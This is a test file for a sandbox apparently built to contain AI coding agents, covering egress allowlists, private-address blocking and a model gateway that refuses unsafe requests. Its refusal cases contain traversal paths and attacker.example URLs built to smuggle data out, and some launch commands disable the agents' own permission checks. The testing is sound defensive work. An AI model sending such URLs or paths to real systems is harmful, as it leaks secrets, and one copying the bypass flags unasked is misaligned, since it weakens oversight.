import { describe, expect, it } from 'vitest';
import { BerthConfigSchema } from '../../src/config/berth-config-schema.js';
import { MODEL_GATEWAY_BOUNDS } from '../../src/config/bounds.js';
import { HostPatternSchema, hostAllowed, modelAllowed } from '../../src/config/outbound.js';
import { ProjectMetadataSchema } from '../../src/config/metadata.js';
import { checkOperatorConfig } from '../../src/config/operator-checks.js';
import { createBodyBudget } from '../../src/outbound/body-budget.js';
import { createBudgets } from '../../src/outbound/budget.js';
import {
  findProviderRun,
  forwardedHeaders,
  methodOf,
  parseGatewayPath,
  parseModelBody,
  returnedHeaders,
} from '../../src/outbound/model-request.js';
import { isPrivateAddress } from '../../src/outbound/addresses.js';
import { usageTap } from '../../src/outbound/usage.js';
import { agentArgv, presetOwnHost } from '../../src/plan/agent-command.js';
import { KEY_PLACEHOLDER, planOutbound, withRelays } from '../../src/plan/outbound.js';
import { checkModels } from '../../src/cli/doctor-outbound.js';

describe('egress allowlist matching', () => {
  const list = ['registry.npmjs.org', '*.debian.org', 'git.example.com:8443'];
  it.each([
    ['registry.npmjs.org', 443, true],
    ['REGISTRY.npmjs.org.', 80, true],
    ['registry.npmjs.org', 22, false],
    ['deb.debian.org', 443, true],
    ['debian.org', 443, false],
    ['evil-debian.org', 443, false],
    ['registry.npmjs.org.evil.test', 443, false],
    ['git.example.com', 8443, true],
    ['git.example.com', 443, false],
    ['127.0.0.1', 443, false],
  ] as const)('%s:%i → %s', (host, port, allowed) => {
    expect(hostAllowed(list, host, port)).toBe(allowed);
  });

  it('patterns are host names, never URLs, IP ranges or bare wildcards', () => {
    for (const ok of ['a.b', '*.b.c', 'x:443', 'localhost']) expect(HostPatternSchema.safeParse(ok).success, ok).toBe(true);
    for (const bad of ['*', '*.', 'https://a.b', 'a.b/path', '10.0.0.0/8', 'A.B', 'a..b', 'a.b:0', 'a.b:70000', '*.*.b', 'a b'])
      expect(HostPatternSchema.safeParse(bad).success, bad).toBe(false);
  });

  it('model patterns: "*" is any run of characters, the rest literal', () => {
    expect(modelAllowed(['claude-*'], 'claude-sonnet-4-5')).toBe(true);
    expect(modelAllowed(['claude-*'], 'gpt-5')).toBe(false);
    expect(modelAllowed(['claude-3.5'], 'claude-305')).toBe(false);
  });
});

describe('private addresses (the proxy never connects to these unless the operator names the host)', () => {
  it.each([
    '127.0.0.1',
    '10.1.2.3',
    '172.20.0.1',
    '192.168.1.1',
    '169.254.169.254',
    '100.64.0.1',
    '0.0.0.0',
    '::1',
    '::ffff:127.0.0.1',
    'fe80::1',
    'fd00::1',
    'not-an-ip',
  ])('%s is private', (a) => {
    expect(isPrivateAddress(a)).toBe(true);
  });
  it.each(['1.1.1.1', '151.101.0.1', '2a04:4e42::1'])('%s is public', (a) => {
    expect(isPrivateAddress(a)).toBe(false);
  });
});

describe('model budget (rolling hour, per tenant)', () => {
  const limits = { requests_per_hour: 3, tokens_per_hour: 1000 };
  it('counts requests and tokens per tenant and frees up as the hour rolls', () => {
    const b = createBudgets();
    const t0 = Date.UTC(2026, 0, 1, 12, 0, 30);
    for (let i = 0; i < 3; i++) expect(b.take('p\0a', limits, t0 + i * 60_000)).toEqual({ ok: true });
    const spent = b.take('p\0a', limits, t0 + 3 * 60_000);
    expect(spent).toMatchObject({ ok: false, reason: '3 model calls per hour' });
    expect(b.take('p\0b', limits, t0)).toEqual({ ok: true }); // another tenant is not affected
    expect(b.take('p\0a', limits, t0 + 3_600_000)).toEqual({ ok: true }); // the first minute has left the window
    b.spend('p\0b', 5000, t0);
    expect(b.take('p\0b', limits, t0 + 1000)).toMatchObject({ ok: false, reason: '1000 tokens per hour', retryAfterS: expect.any(Number) });
  });
  it('keys are never object properties', () => {
    const b = createBudgets();
    expect(b.take('__proto__', limits)).toEqual({ ok: true });
    expect(b.take('constructor', limits)).toEqual({ ok: true });
  });
});

describe('token counting of what streams past', () => {
  it('Anthropic SSE: input from message_start, output from message_delta, split anywhere', () => {
    const tap = usageTap('text/event-stream', 1024);
    const text =
      'event: message_start\ndata: {"type":"message_start","message":{"usage":{"input_tokens":12,"cache_read_input_tokens":3,"output_tokens":1}}}\n\n' +
      'event: message_delta\ndata: {"type":"message_delta","usage":{"output_tokens":40}}\n\n';
    for (let i = 0; i < text.length; i += 7) tap.push(Buffer.from(text.slice(i, i + 7)));
    expect(tap.result()).toEqual({ input: 15, output: 40, known: true });
  });
  it('OpenAI: response.completed or a JSON body; unknown shapes count 0', () => {
    const sse = usageTap('text/event-stream', 1024);
    sse.push(Buffer.from('data: {"type":"response.completed","response":{"usage":{"input_tokens":7,"output_tokens":9}}}\n\n'));
    expect(sse.result()).toEqual({ input: 7, output: 9, known: true });
    const json = usageTap('application/json', 1024);
    json.push(Buffer.from('{"usage":{"prompt_tokens":4,"completion_tokens":6}}'));
    expect(json.result()).toEqual({ input: 4, output: 6, known: true });
    const odd = usageTap('application/json', 1024);
    odd.push(Buffer.from('{"usage":{"input_tokens":-5,"output_tokens":"many"}}'));
    expect(odd.result()).toEqual({ input: 0, output: 0, known: true });
  });
});

const DEPTH = MODEL_GATEWAY_BOUNDS.maxBodyDepth;

describe('model gateway requests (pure): path, method, headers, body', () => {
  it.each([
    ['/up/v1/messages', { upstream: 'up', path: '/v1/messages' }],
    ['/up/v1/messages?beta=true', { upstream: 'up', path: '/v1/messages', query: 'beta=true' }],
    ['/up/v1/models/claude-3.5~x', { upstream: 'up', path: '/v1/models/claude-3.5~x' }],
    ['/up/v1/models/%63laude', { upstream: 'up', path: '/v1/models/claude' }],
    ['/up/v1/models/...', { upstream: 'up', path: '/v1/models/...' }],
    ['/up', { upstream: 'up', path: '/' }],
  ])('%s is forwarded as %o', (url, expected) => {
    expect(parseGatewayPath(url)).toEqual({ ok: true, ...expected });
  });

  it.each([
    ['/up/v1/models/..', '".."'],
    ['/up/v1/models/.', '".."'],
    ['/up/v1/models/%2e%2e', '".."'],
    ['/up/v1/models/%2E.', '".."'],
    ['/up/v1/models/.%2e?x=1', '".."'],
    ['/up/./v1/messages', '".."'],
    ['/../up/v1/messages', '".."'],
    ['/up//v1/messages', 'empty'],
    ['/up/v1/messages/', 'empty'],
    ['/', 'empty'],
    ['//up/v1/messages', 'empty'],
    ['/up/v1/models/%2e%2e%2fx', 'only letters'],
    ['/up/v1/models/a%2fb', 'only letters'],
    ['/up/v1/models/a%5cb', 'only letters'],
    ['/up/v1/models/a\\..', 'only letters'],
    ['/up/v1/models/a%00', 'only letters'],
    ['/up/v1/models/%zz', '%-encoding'],
    ['up/v1/messages', 'starts with'],
    ['http://evil/up/v1/messages', 'starts with'],
  ])('%s is refused (%s)', (url, why) => {
    const r = parseGatewayPath(url);
    expect(r.ok).toBe(false);
    expect(r.ok ? '' : r.reason).toContain(why);
  });

  it('each endpoint takes one method: model calls POST, listings GET, nothing else is forwarded', () => {
    const table = [
      '/v1/messages',
      '/v1/messages/count_tokens',
      '/v1/models',
      '/v1/models/x',
      '/v1/messages/batches',
      '/v1/files',
      '/v1/responses',
      '/v1/chat/completions',
      '/v1/embeddings',
    ].map((p) => [p, methodOf('anthropic', p), methodOf('openai', p)]);
    expect(table).toEqual([
      ['/v1/messages', 'POST', undefined],
      ['/v1/messages/count_tokens', 'POST', undefined],
      ['/v1/models', 'GET', 'GET'],
      ['/v1/models/x', 'GET', 'GET'],
      ['/v1/messages/batches', undefined, undefined],
      ['/v1/files', undefined, undefined],
      ['/v1/responses', undefined, 'POST'],
      ['/v1/chat/completions', undefined, 'POST'],
      ['/v1/embeddings', undefined, 'POST'],
    ]);
  });

  it('only allowlisted request headers pass, per API kind', () => {
    const sent = {
      'content-type': 'application/json',
      accept: 'text/event-stream',
      'user-agent': 'claude-cli/2',
      'anthropic-version': '2023-06-01',
      'anthropic-beta': 'claude-code-20250219,mcp-client-2025-11-20',
      'openai-organization': 'org-x',
      'openai-project': 'proj-x',
      'openai-beta': 'assistants=v2',
      authorization: 'Bearer tenant',
      'x-api-key': 'tenant',
      cookie: 'c=1',
      'x-stainless-os': 'Linux',
      'set-cookie': ['a', 'b'],
    };
    expect(forwardedHeaders('anthropic', sent)).toEqual({
      'content-type': 'application/json',
      accept: 'text/event-stream',
      'user-agent': 'claude-cli/2',
      'anthropic-version': '2023-06-01',
      'anthropic-beta': 'claude-code-20250219',
    });
    expect(forwardedHeaders('openai', sent)).toEqual({
      'content-type': 'application/json',
      accept: 'text/event-stream',
      'user-agent': 'claude-cli/2',
    });
  });

  it('the body sent on is the parsed one, serialized again: one "model", the one berth checked', () => {
    const body = (s: string) => Buffer.from(s);
    expect(parseModelBody('openai', '/v1/responses', body('{"model":"expensive","input":[],"model":"cheap"}'), DEPTH)).toEqual({
      ok: true,
      model: 'cheap',
      json: '{"model":"cheap","input":[]}',
    });
    expect(
      parseModelBody('anthropic', '/v1/messages', body('{ "model" : "m",\n "messages": [{"role":"user","role":"assistant"}] }'), DEPTH),
    ).toEqual({ ok: true, model: 'm', json: '{"model":"m","messages":[{"role":"assistant"}]}' });
    // "__proto__" stays a plain key (JSON.parse makes it an own property): nothing is polluted, nothing dropped.
    const proto = parseModelBody('anthropic', '/v1/messages', body('{"model":"m","__proto__":{"x":1}}'), DEPTH);
    expect(proto).toEqual({ ok: true, model: 'm', json: '{"model":"m","__proto__":{"x":1}}' });
    expect(({} as Record<string, unknown>).x).toBeUndefined();
    for (const bad of [
      '',
      'null',
      '"m"',
      '[{"model":"m"}]',
      '{"model":1}',
      '{"Model":"m"}',
      '{"model":"m"} {"model":"n"}',
      '{"model":"m",}',
      '\ufeff{"model":"m"}',
    ]) {
      expect(parseModelBody('anthropic', '/v1/messages', body(bad), DEPTH), bad).toEqual({
        ok: false,
        reason: 'a model call is one JSON object naming its "model"',
      });
    }
  });

  it('an OpenAI chat stream asks for usage (so it is counted); other calls are not changed', () => {
    expect(
      parseModelBody('openai', '/v1/chat/completions', Buffer.from('{"model":"m","stream":true,"stream_options":{"x":1}}'), DEPTH),
    ).toEqual({ ok: true, model: 'm', json: '{"model":"m","stream":true,"stream_options":{"x":1,"include_usage":true}}' });
    expect(parseModelBody('openai', '/v1/chat/completions', Buffer.from('{"model":"m"}'), DEPTH)).toEqual({
      ok: true,
      model: 'm',
      json: '{"model":"m"}',
    });
    expect(parseModelBody('anthropic', '/v1/messages', Buffer.from('{"model":"m","stream":true}'), DEPTH)).toEqual({
      ok: true,
      model: 'm',
      json: '{"model":"m","stream":true}',
    });
  });
});

describe('model gateway requests (pure): only tools the agent runs in its sandbox', () => {
  /** What Claude Code 2.1.330 sends (measured against the fake, trimmed): client tools without a type. */
  const claudeCode = {
    model: 'claude-opus-5-5',
    max_tokens: 128000,
    stream: true,
    metadata: { user_id: '{"device_id":"d","account_uuid":"","session_id":"s"}' },
    system: [{ type: 'text', text: 'You are Claude Code', cache_control: { type: 'ephemeral' } }],
    thinking: { type: 'adaptive', display: 'omitted' },
    context_management: { edits: [{ type: 'clear_thinking_20251015', keep: 'all' }] },
    output_config: { effort: 'medium' },
    tools: [
      { name: 'Bash', description: 'Run a command', input_schema: { type: 'object', properties: { command: { type: 'string' } } } },
      { name: 'DeferredToolPlaceholder', description: '', input_schema: { type: 'object' }, defer_loading: true },
    ],
    messages: [
      { role: 'user', content: [{ type: 'text', text: 'BASH: ls' }] },
      // A tool's input is the model's own JSON: a "source" in it is not an input the provider fetches.
      {
        role: 'assistant',
        content: [
          { type: 'thinking', thinking: '', signature: 'x' },
          { type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command: 'ls', source: { type: 'url', url: 'https://example.com/' } } },
        ],
      },
      {
        role: 'user',
        content: [
          {
            type: 'tool_result',
            tool_use_id: 'toolu_1',
            content: [
              { type: 'text', text: 'a.txt' },
              { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBOR' } },
            ],
          },
        ],
      },
    ],
  };
  /** What Codex 0.169.0 sends (measured: no tools at all), with the client tool types Codex can add. */
  const codex = {
    model: 'gpt-6.1-sol',
    stream: true,
    input: [
      {
        type: 'message',
        role: 'user',
        content: [
          { type: 'input_text', text: 'hi' },
          { type: 'input_image', image_url: 'data:image/png;base64,iVBOR' },
        ],
      },
    ],
    tool_choice: 'auto',
    parallel_tool_calls: false,
    reasoning: { effort: 'low' },
    store: false,
    include: ['reasoning.encrypted_content'],
    prompt_cache_key: 'k',
    text: { verbosity: 'low' },
    client_metadata: { session_id: 's' },
    tools: [
      { type: 'function', name: 'exec_command', parameters: { type: 'object' } },
      { type: 'custom', name: 'apply_patch', format: { type: 'grammar', syntax: 'lark', definition: 'start: "x"' } },
      { type: 'local_shell' },
      { type: 'apply_patch' },
      { type: 'namespace', name: 'mcp__files', tools: [{ type: 'function', name: 'read' }] },
    ],
  };

  it.each([
    ['Claude Code', 'anthropic', claudeCode],
    [
      'Anthropic client built-ins and custom tools',
      'anthropic',
      {
        tools: [
          { type: 'bash_20250124', name: 'bash' },
          { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
          { type: 'computer_20251124', name: 'computer' },
          { type: 'memory_20250818', name: 'memory' },
          { type: 'custom', name: 'f', input_schema: {} },
        ],
      },
    ],
    ['empty or switched-off fields', 'anthropic', { mcp_servers: [], container: null, tools: [] }],
    ['Codex', 'openai', codex],
    [
      'a chat call with function tools and an inline image',
      'openai',
      {
        messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'DATA:image/png;base64,iVBOR' } }] }],
        tools: [{ type: 'function', function: { name: 'f' } }],
        background: false,
      },
    ],
    ['stored state', 'openai', { input: 'hi', store: true, previous_response_id: 'resp_1' }],
  ] as const)('%s passes', (_name, api, body) => {
    expect(findProviderRun(api, body)).toBeUndefined();
  });

  it.each([
    [
      'openai',
      {
        tools: [
          { type: 'function', name: 'f' },
          { type: 'custom', name: 'g' },
          { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' },
        ],
      },
      'tools[2].type "mcp" is not one berth forwards',
    ],
    ['openai', { tools: [{ type: 'web_search' }] }, 'tools[0].type "web_search" is not one'],
    ['openai', { tools: [{ type: 'web_search_preview' }] }, 'tools[0].type "web_search_preview" is not one'],
    ['openai', { tools: [{ type: 'file_search', vector_store_ids: ['vs_1'] }] }, 'tools[0].type "file_search" is not one'],
    ['openai', { tools: [{ type: 'code_interpreter', container: { type: 'auto' } }] }, 'tools[0].type "code_interpreter" is not one'],
    ['openai', { tools: [{ type: 'computer_use_preview' }] }, 'tools[0].type "computer_use_preview" is not one'],
    ['openai', { tools: [{ type: 'image_generation' }] }, 'tools[0].type "image_generation" is not one'],
    ['openai', { tools: [{ type: 'shell', environment: { type: 'container_auto' } }] }, 'tools[0].type "shell" is not one'],
    ['openai', { tools: [{ type: 'tool_search' }] }, 'tools[0].type "tool_search" is not one'],
    [
      'openai',
      {
        tools: [
          {
            type: 'namespace',
            name: 'n',
            tools: [
              { type: 'function', name: 'f' },
              { type: 'mcp', server_url: 'https://attacker.example' },
            ],
          },
        ],
      },
      'tools[0].tools[1].type "mcp" is not one',
    ],
    [
      'openai',
      { tools: [{ type: 'namespace', name: 'n', tools: [{ type: 'namespace', name: 'm', tools: [] }] }] },
      'tools[0].tools[0].type "namespace" is not one',
    ],
    ['openai', { tools: [{ name: 'f' }] }, 'tools[0].type (none) is not one'],
    ['openai', { tools: { type: 'function' } }, 'tools is a list of tool definitions'],
    ['openai', { tools: ['function'] }, 'tools[0] is not a tool definition'],
    ['openai', { background: true }, 'background: '],
    ['openai', { web_search_options: {} }, 'web_search_options: '],
    [
      'openai',
      { input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/p.png?d=secret' }] }] },
      'input[0].content[0].image_url: ',
    ],
    [
      'openai',
      { input: [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/f.pdf' }] }] },
      'input[0].content[0].file_url: ',
    ],
    [
      'openai',
      { input: [{ type: 'function_call_output', call_id: 'c', output: [{ type: 'input_image', image_url: 'http://attacker.example/' }] }] },
      'input[0].output[0].image_url: ',
    ],
    [
      'openai',
      {
        messages: [
          {
            role: 'user',
            content: [
              { type: 'text', text: 'x' },
              { type: 'image_url', image_url: { url: 'https://attacker.example/p.png' } },
            ],
          },
        ],
      },
      'messages[0].content[1].image_url.url: ',
    ],
    [
      'anthropic',
      {
        tools: [
          { name: 'Bash', input_schema: {} },
          { type: 'web_search_20250305', name: 'web_search' },
        ],
      },
      'tools[1].type "web_search_20250305" is not one',
    ],
    ['anthropic', { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }, 'tools[0].type "web_fetch_20250910" is not one'],
    [
      'anthropic',
      { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
      'tools[0].type "code_execution_20250825" is not one',
    ],
    [
      'anthropic',
      { tools: [{ type: 'tool_search_tool_regex_20251119', name: 'tool_search' }] },
      'tools[0].type "tool_search_tool_regex_20251119" is not one',
    ],
    ['anthropic', { tools: [{ type: 'mcp_toolset', mcp_server_name: 'x' }] }, 'tools[0].type "mcp_toolset" is not one'],
    ['anthropic', { tools: [{ type: 'advisor_20260301', name: 'advisor' }] }, 'tools[0].type "advisor_20260301" is not one'],
    [
      'anthropic',
      { tools: [{ type: 'bash_code_execution_20250825', name: 'bash' }] },
      'tools[0].type "bash_code_execution_20250825" is not one',
    ],
    ['anthropic', { tools: [{ type: null, name: 'f' }] }, 'tools[0].type null is not one'],
    ['anthropic', { mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }, 'mcp_servers: '],
    ['anthropic', { container: 'container_1' }, 'container: '],
    [
      'anthropic',
      {
        messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/p.png?d=secret' } }] }],
      },
      'messages[0].content[0].source: ',
    ],
    [
      'anthropic',
      {
        messages: [
          {
            role: 'user',
            content: [
              {
                type: 'tool_result',
                tool_use_id: 't',
                content: [
                  { type: 'text', text: 'x' },
                  { type: 'document', source: { type: 'url', url: 'https://attacker.example/d.pdf' } },
                ],
              },
            ],
          },
        ],
      },
      'messages[0].content[0].content[1].source: ',
    ],
    [
      'anthropic',
      {
        system: [
          { type: 'text', text: 'x' },
          { type: 'image', source: { type: 'url', url: 'https://attacker.example/' } },
        ],
      },
      'system[1].source: ',
    ],
  ] as const)('%s %j is refused: %s', (api, body, reason) => {
    expect(findProviderRun(api, body)?.slice(0, reason.length)).toBe(reason);
  });

  it('the refusal names the field and says why, and parseModelBody refuses the call', () => {
    const body = Buffer.from(
      JSON.stringify({
        model: 'gpt-x',
        input: 'hi',
        tools: [
          { type: 'function', name: 'f' },
          { type: 'function', name: 'g' },
          { type: 'mcp', server_url: 'https://attacker.example/mcp' },
        ],
      }),
    );
    const reason =
      'tools[2].type "mcp" is not one berth forwards: berth allows only tools the agent runs in its sandbox (function, custom, local_shell, apply_patch, namespace), none the provider runs';
    expect(findProviderRun('openai', JSON.parse(body.toString()))).toBe(reason);
    expect(parseModelBody('openai', '/v1/responses', body, DEPTH)).toEqual({ ok: false, reason });
    expect(findProviderRun('anthropic', { tools: [{ type: 'web_search_20250305' }] })).toBe(
      'tools[0].type "web_search_20250305" is not one berth forwards: berth allows only tools the agent runs in its sandbox (no type, custom, bash_*, text_editor_*, computer_*, memory_*), none the provider runs',
    );
    expect(findProviderRun('openai', { background: true })).toBe(
      'background: a background response is fetched later, with no usage berth can count against the budget',
    );
  });

  it.each([
    // Claude Code 2.1.330, measured: every value passes unchanged.
    [
      'claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24',
      'claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24',
    ],
    [
      'claude-code-20250219, mcp-client-2025-11-20,files-api-2025-04-14 ,interleaved-thinking-2025-05-14',
      'claude-code-20250219,interleaved-thinking-2025-05-14',
    ],
    [
      'fine-grained-tool-streaming-2025-05-14,token-efficient-tools-2025-02-19,prompt-caching-2024-07-31,context-1m-2025-08-07,token-counting-2024-11-01',
      'fine-grained-tool-streaming-2025-05-14,token-efficient-tools-2025-02-19,prompt-caching-2024-07-31,context-1m-2025-08-07,token-counting-2024-11-01',
    ],
    ['mcp-servers-2025-12-04', undefined],
    [
      'web-search-2025-03-05,web-fetch-2025-09-10,code-execution-2025-08-25,skills-2025-10-02,advisor-tool-2026-03-01,computer-use-2025-01-24',
      undefined,
    ],
    [
      'server-side-fallback-2026-06-01,fast-mode-2026-02-01,oauth-2025-04-20,managed-agents-2026-04-01,fallback-credit-2026-06-01',
      undefined,
    ],
    ['claude-code-evil-2025-01-01,claude-code-20250219x,CLAUDE-CODE-20250219,prompt-caching-scope-2026-01-05,,', undefined],
  ])('anthropic-beta %s → %s', (sent, kept) => {
    expect(forwardedHeaders('anthropic', { 'anthropic-beta': sent })['anthropic-beta']).toBe(kept);
  });

  it("the answer's headers reach the container without who is billed, the organization's rate limits, cookies or hop-by-hop headers", () => {
    const answer = {
      'content-type': 'text/event-stream',
      'request-id': 'req_1',
      'x-request-id': 'req_2',
      'retry-after': '3',
      'x-should-retry': 'false',
      'openai-organization': 'org-operator',
      'openai-project': 'proj_operator',
      'anthropic-organization-id': 'uuid-operator',
      'x-ratelimit-remaining-tokens': '100',
      'anthropic-ratelimit-tokens-remaining': '100',
      'set-cookie': ['a=1'],
      connection: 'keep-alive',
      'transfer-encoding': 'chunked',
    };
    expect(returnedHeaders(answer)).toEqual({
      'content-type': 'text/event-stream',
      'request-id': 'req_1',
      'x-request-id': 'req_2',
      'retry-after': '3',
      'x-should-retry': 'false',
    });
  });

  it('a body nested deeper than the bound is refused, however deep (it used to overflow the stack while being re-serialized)', () => {
    const nested = (depth: number) => Buffer.from(`{"model":"m","x":${'['.repeat(depth - 1)}${']'.repeat(depth - 1)}}`);
    expect(parseModelBody('anthropic', '/v1/messages', nested(DEPTH), DEPTH).ok).toBe(true);
    const refused = { ok: false, reason: `a model call nests at most ${DEPTH} levels deep` };
    expect(parseModelBody('anthropic', '/v1/messages', nested(DEPTH + 1), DEPTH)).toEqual(refused);
    expect(parseModelBody('anthropic', '/v1/messages', nested(200_000), DEPTH)).toEqual(refused);
  });
});

describe('buffered body budget (per tenant, per process)', () => {
  it('a lease takes bytes while both shares allow, gives all of them back once, and takes nothing after', () => {
    const budget = createBodyBudget({ perTenant: 100, total: 150 });
    const a1 = budget.lease('p\0a');
    const a2 = budget.lease('p\0a');
    const b = budget.lease('p\0b');
    expect(a1.grow(60)).toBe(true);
    expect(a2.grow(41)).toBe(false); // a's 100
    expect(a2.grow(40)).toBe(true);
    expect(b.grow(60)).toBe(false); // the process's 150
    expect(b.grow(50)).toBe(true);
    expect(budget.held()).toBe(150);
    a1.release();
    a1.release();
    expect(budget.held()).toBe(90);
    expect(a1.grow(1)).toBe(false);
    expect(budget.lease('p\0a').grow(60)).toBe(true);
    expect(budget.held()).toBe(150);
  });
});

describe('outbound plan (pure)', () => {
  const config = BerthConfigSchema.parse({
    models: {
      anthropic: { api: 'anthropic', url: 'https://api.anthropic.com', api_key: 'sk-real' },
      oai: { api: 'openai', url: 'https://api.openai.com', api_key: 'sk-oai' },
    },
  });
  const meta = (models: unknown) => ProjectMetadataSchema.parse({ name: 'p', models });

  it('low: gateway and model sockets, the placeholder key, no proxy; the real key appears nowhere', () => {
    const plan = planOutbound({ config, metadata: meta({ upstreams: ['anthropic', 'oai'] }), agentRun: true, egress: false }, '/run/berth');
    expect(plan.sockets).toEqual(['gateway', 'model']);
    expect(plan.env).toMatchObject({
      ANTHROPIC_BASE_URL: 'http://127.0.0.1:41400/anthropic',
      ANTHROPIC_API_KEY: KEY_PLACEHOLDER,
      OPENAI_BASE_URL: 'http://127.0.0.1:41400/oai/v1',
      OPENAI_API_KEY: KEY_PLACEHOLDER,
    });
    expect(plan.env.HTTPS_PROXY).toBeUndefined();
    expect(JSON.stringify(plan)).not.toMatch(/sk-real|sk-oai/);
  });

  it('medium/high: the egress proxy; the shell tool gets no model; an unknown upstream is a warning', () => {
    const plan = planOutbound({ config, metadata: meta({ upstreams: ['nope'] }), agentRun: false, egress: true }, '/run/berth');
    expect(plan.sockets).toEqual(['egress']);
    expect(plan.env.HTTPS_PROXY).toBe('http://127.0.0.1:41401');
    expect(plan.warnings).toEqual([`model upstream "nope" is allowed but berth.yaml's models has no such entry`]);
  });

  it('berth-bridge starts the relays before the agent; no relay, no wrapper', () => {
    expect(withRelays(['claude', '-p'], ['gateway', 'model', 'egress'], '/run/berth')).toEqual([
      'berth-bridge',
      'relay',
      '41400=/run/berth/model.sock',
      '41401=/run/berth/egress.sock',
      '--',
      'claude',
      '-p',
    ]);
    expect(withRelays(['sh'], ['gateway'], '/run/berth')).toEqual(['sh']);
  });

  it("presets continue the session's conversation; codex is told where berth's gateway is, with its plugins and analytics off", () => {
    expect(agentArgv('claude', 'hi')).toEqual([
      'claude',
      '-p',
      '--output-format',
      'stream-json',
      '--verbose',
      '--dangerously-skip-permissions',
      '--continue',
      '--',
      'hi',
    ]);
    expect(agentArgv('codex', 'hi', { openaiBaseUrl: 'http://127.0.0.1:41400/oai/v1' })).toEqual([
      'codex',
      'exec',
      'resume',
      '--last',
      '-c',
      'model_providers.berth={name="berth",base_url="http://127.0.0.1:41400/oai/v1",env_key="OPENAI_API_KEY",wire_api="responses",supports_websockets=false}',
      '-c',
      'model_provider=berth',
      '-c',
      'features.plugins=false',
      '-c',
      'analytics.enabled=false',
      '--json',
      '--dangerously-bypass-approvals-and-sandbox',
      '--skip-git-repo-check',
      '--',
      'hi',
    ]);
    expect(agentArgv('codex', 'hi')).toEqual([
      'codex',
      'exec',
      'resume',
      '--last',
      '-c',
      'features.plugins=false',
      '-c',
      'analytics.enabled=false',
      '--json',
      '--dangerously-bypass-approvals-and-sandbox',
      '--skip-git-repo-check',
      '--',
      'hi',
    ]);
    expect(agentArgv('shell', 'echo')).toEqual(['sh', '-c', '--', 'echo']);
  });

  it("a preset's own hosts are known by preset and exact host:port; a custom argv has none", () => {
    expect(presetOwnHost('codex', 'ab.chatgpt.com:443')).toBe(true);
    expect(presetOwnHost('codex', 'chatgpt.com:443')).toBe(true);
    expect(presetOwnHost('codex', 'github.com:443')).toBe(false); // a task may need it: still asked for
    expect(presetOwnHost('codex', 'chatgpt.com:80')).toBe(false);
    expect(presetOwnHost('claude', 'chatgpt.com:443')).toBe(false);
    expect(presetOwnHost(['codex', 'exec'], 'chatgpt.com:443')).toBe(false);
  });
});

describe("operator check: a model key in berth.yaml's env (which containers get) is refused", () => {
  it('by name, by value, or with the key inside the value', () => {
    const config = BerthConfigSchema.parse({
      env: { ANTHROPIC_API_KEY: 'x', OTHER: 'sk-real', WRAPPED: 'Bearer sk-real\n', FINE: 'ok' },
      models: { a: { api: 'anthropic', url: 'https://api.anthropic.com', api_key: 'sk-real' } },
    });
    expect(
      checkOperatorConfig(config, '/tmp')
        .map((i) => i.field)
        .sort(),
    ).toEqual(['env.ANTHROPIC_API_KEY', 'env.OTHER', 'env.WRAPPED']);
  });
});

describe('doctor: projects that need a model', () => {
  it('says so when an agent preset can call no model, and names an upstream berth.yaml lacks', () => {
    const config = BerthConfigSchema.parse({ models: { anthropic: { api: 'anthropic', url: 'https://api.anthropic.com', api_key: 'k' } } });
    const checks = checkModels(config, [
      { name: 'a', metadata: ProjectMetadataSchema.parse({ name: 'a', agent: 'claude' }) },
      { name: 'b', metadata: ProjectMetadataSchema.parse({ name: 'b', agent: 'claude', models: { upstreams: ['anthropic'] } }) },
      { name: 'c', metadata: ProjectMetadataSchema.parse({ name: 'c', models: { upstreams: ['gone'] } }) },
      { name: 'd', metadata: ProjectMetadataSchema.parse({ name: 'd' }) },
    ]);
    expect(checks.map((c) => [c.name, c.status])).toEqual([
      ['models a', 'warn'],
      ['models b', 'ok'],
      ['models c', 'fail'], // its agents' model calls would fail: doctor fails it
    ]);
    expect(checks[0]?.detail).toContain('berth project update a --model <upstream>');
    expect(JSON.stringify(checks)).not.toContain('"k"');
  });
});
